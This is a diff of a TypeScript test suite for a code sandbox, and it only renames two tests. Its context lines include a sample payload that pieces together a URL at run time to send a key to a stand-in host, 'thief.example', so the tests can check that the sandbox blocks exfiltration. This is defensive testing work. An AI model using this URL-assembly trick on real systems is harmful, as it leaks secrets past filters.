@@ -60,7 +60,7 @@ describe("code that reads pages", needs("bubblewrap"), () => {
   const scrape = (url: string) =>
     `const p = await this.webScraper.getLinkContent(${url}); return [p.success, p.reason ?? ""].join(" ");`;
 
-  it("code that reads pages carries nothing out in an address of its own making", async () => {
+  it("code that reads pages carries nothing out in an address of its own making [address-10]", async () => {
     const { read, asked, context } = readPages();
     const code = scrape("'https://thief.' + 'example/?key=' + 'k-123456'");
     expect(await attack("carries-out", code, { url: "https://thief.example/" }, context)).toMatchObject({
@@ -134,7 +134,7 @@ describe("code that speaks without end", needs("bubblewrap"), () => {
 });
 
 describe("code that pretends to be the bot or another call", needs("bubblewrap"), () => {
-  it("code gets nothing from answers it gives itself and from calls that are not open", async () => {
+  it("code gets nothing from answers it gives itself and from calls that are not open [sandbox-7]", async () => {
     const asked: unknown[] = [];
     const files: unknown[] = [];
     const file = async (given: unknown) => String(files.push(given));
